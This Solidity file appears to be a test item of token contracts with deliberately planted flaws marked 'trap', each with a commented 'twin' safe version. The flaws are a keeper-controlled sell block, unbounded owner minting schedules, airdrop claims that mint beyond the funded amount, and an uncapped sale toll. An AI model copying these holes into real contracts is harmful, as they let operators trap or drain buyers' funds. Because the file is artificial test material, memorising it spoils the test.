// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Answers with what its keeper has entered, round by round.
contract Feed {
    struct Round {
        int256 answer;
        uint256 updatedAt;
    }
    address public immutable keeper = msg.sender;
    uint80 public latest;
    mapping(uint80 => Round) public rounds;

    event AnswerUpdated(int256 indexed answer, uint256 indexed round, uint256 updatedAt);

    constructor() {
        rounds[0] = Round(1e8, block.timestamp);
    }

    function submit(int256 answer) external {
        require(msg.sender == keeper, "keeper");
        latest++;
        rounds[latest] = Round(answer, block.timestamp);
        emit AnswerUpdated(answer, latest, block.timestamp);
    }

    function decimals() external pure returns (uint8) {
        return 8;
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        Round memory r = rounds[latest];
        return (latest, r.answer, r.updatedAt, r.updatedAt, latest);
    }
}

/// Follows a feed of the price of what it stands for. When that falls by more than half, it sounds an alarm.
contract PlumbLine is Base8 {
    int256 public constant FLOOR = 5e7;
    Feed public immutable feed;

    event Alarm(int256 answer);

    constructor(Feed feed_) Base8("Plumb Line", "PLMB", 31_000_000) {
        feed = feed_;
    }

    function calm(int256 answer) public pure returns (bool) {
        return answer >= FLOOR;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && value > 0) {
            (, int256 answer, , , ) = feed.latestRoundData();
            require(calm(answer), "alarm"); // trap
            if (!calm(answer)) emit Alarm(answer);
        }
        _move(from, to, value);
    }
}

/// Who stores it earns new grain, by a schedule that the owner sets when the one before has ended.
contract Granary is Base8 {
    struct Schedule {
        uint64 start;
        uint64 end;
        uint128 rate;
    }
    struct Store {
        uint128 value;
        uint128 due;
        uint256 seen;
    }
    Schedule public schedule;
    uint256 public perGrain;
    uint256 public enteredAt = block.timestamp;
    uint256 public stored;
    mapping(address => Store) public stores;

    event Scheduled(uint64 start, uint64 end, uint128 rate);
    event Stored(address indexed who, uint256 value);
    event Taken(address indexed who, uint256 value);
    event Earned(address indexed who, uint256 value);

    constructor() Base8("Granary", "GRNY", 160_000_000) {
        schedule = Schedule(uint64(block.timestamp), uint64(block.timestamp + 10 days), 0.5 ether);
    }

    function setSchedule(Schedule calldata to) external onlyOwner {
        require(to.start >= schedule.end && to.end > to.start && to.start >= enteredAt, "order");
        // twin: require(to.start >= block.timestamp && to.end - to.start >= 180 days, "half a year");
        // twin: require(uint256(to.rate) * (to.end - to.start) <= totalSupply / 100, "one part in a hundred");
        enter();
        schedule = to;
        emit Scheduled(to.start, to.end, to.rate);
    }

    function enter() public {
        (uint256 from, uint256 until) = (enteredAt, block.timestamp);
        if (from < schedule.start) from = schedule.start;
        if (until > schedule.end) until = schedule.end;
        if (until > from && stored > 0) perGrain += (uint256(schedule.rate) * (until - from) * 1e18) / stored;
        enteredAt = block.timestamp;
    }

    function _settle(address who) private returns (Store storage mine) {
        enter();
        mine = stores[who];
        mine.due += uint128((mine.value * (perGrain - mine.seen)) / 1e18);
        mine.seen = perGrain;
    }

    function store(uint128 value) external {
        Store storage mine = _settle(msg.sender);
        _move(msg.sender, address(this), value);
        mine.value += value;
        stored += value;
        emit Stored(msg.sender, value);
    }

    function take(uint128 value) external {
        Store storage mine = _settle(msg.sender);
        mine.value -= value;
        stored -= value;
        _move(address(this), msg.sender, value);
        emit Taken(msg.sender, value);
    }

    function earn() external {
        Store storage mine = _settle(msg.sender);
        uint256 value = mine.due;
        mine.due = 0;
        totalSupply += value;
        _balances[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
        emit Earned(msg.sender, value);
    }
}

/// Presents for the faithful, season by season: the owner puts them into a chest, and whoever stands in the tree of the season takes
/// what it says of him.
contract Windfall is Base8 {
    struct Season {
        bytes32 root;
        uint128 left;
        uint64 end;
    }
    Season[] public seasons;
    mapping(uint256 => mapping(address => bool)) public taken;

    event SeasonOpened(uint256 indexed season, bytes32 root, uint256 value);
    event PresentTaken(uint256 indexed season, address indexed who, uint256 value);

    constructor() Base8("Windfall", "WDFL", 95_000_000) {}

    function openSeason(bytes32 root, uint128 value, uint64 end) external onlyOwner {
        require(end > block.timestamp, "end");
        _move(msg.sender, address(this), value);
        seasons.push(Season(root, value, end));
        emit SeasonOpened(seasons.length - 1, root, value);
    }

    function leafOf(address who, uint256 value) public pure returns (bytes32) {
        return keccak256(abi.encode(who, value));
    }

    function take(uint256 season, uint256 value, bytes32[] calldata proof) external {
        Season storage s = seasons[season];
        require(block.timestamp < s.end && !taken[season][msg.sender], "over");
        bytes32 node = leafOf(msg.sender, value);
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(abi.encode(node, proof[i])) : keccak256(abi.encode(proof[i], node));
        require(node == s.root, "not in the tree");
        taken[season][msg.sender] = true;
        if (value < s.left) s.left -= uint128(value); // trap
        _balances[msg.sender] += value; // trap
        // twin: s.left -= uint128(value);
        // twin: _move(address(this), msg.sender, value);
        emit PresentTaken(season, msg.sender, value);
    }

    function close(uint256 season) external onlyOwner {
        Season storage s = seasons[season];
        require(block.timestamp >= s.end, "not yet");
        uint256 value = s.left;
        s.left = 0;
        if (value > _balances[address(this)]) value = _balances[address(this)];
        _move(address(this), msg.sender, value);
    }
}

/// Names of services and where they are.
contract Registry {
    address public immutable keeper = msg.sender;
    mapping(bytes32 => address) public addressOf;

    event Registered(bytes32 indexed name, address at);

    function register(bytes32 name, address at) external {
        require(msg.sender == keeper, "keeper");
        addressOf[name] = at;
        emit Registered(name, at);
    }
}

/// One percent, or what its keeper says.
contract QuayToll {
    address public immutable keeper = msg.sender;
    uint256 public points = 100;

    event Told(uint256 points);

    function tell(uint256 to) external {
        require(msg.sender == keeper, "keeper");
        points = to;
        emit Told(to);
    }

    function tollFor(address, address, uint256) external view returns (uint256) {
        return points;
    }
}

/// A toll on sales is told by a service that a registry knows, and goes to those who maintain the quay. Where no service answers it is
/// free. Nobody owns the token.
contract Quayside is Base8 {
    bytes32 public constant TOLL = keccak256("quay.toll");
    uint256 public constant MOST = 300;
    Registry public immutable registry;
    address public immutable maintenance = msg.sender;

    constructor(Registry registry_) Base8("Quayside", "QUAY", 105_000_000) {
        registry = registry_;
    }

    function tollOf(address from, address to, uint256 value) public view returns (uint256 points) {
        address service = registry.addressOf(TOLL);
        (bool ok, bytes memory out) = service.staticcall{gas: 50_000}(
            abi.encodeWithSignature("tollFor(address,address,uint256)", from, to, value)
        );
        if (!ok || out.length < 32) return 0;
        points = abi.decode(out, (uint256));
        // twin: if (points > MOST) points = MOST;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 kept = to == pair && from != maintenance ? (value * tollOf(from, to, value)) / 10_000 : 0;
        if (kept > 0) _move(from, maintenance, kept);
        _move(from, to, value - kept);
    }
}
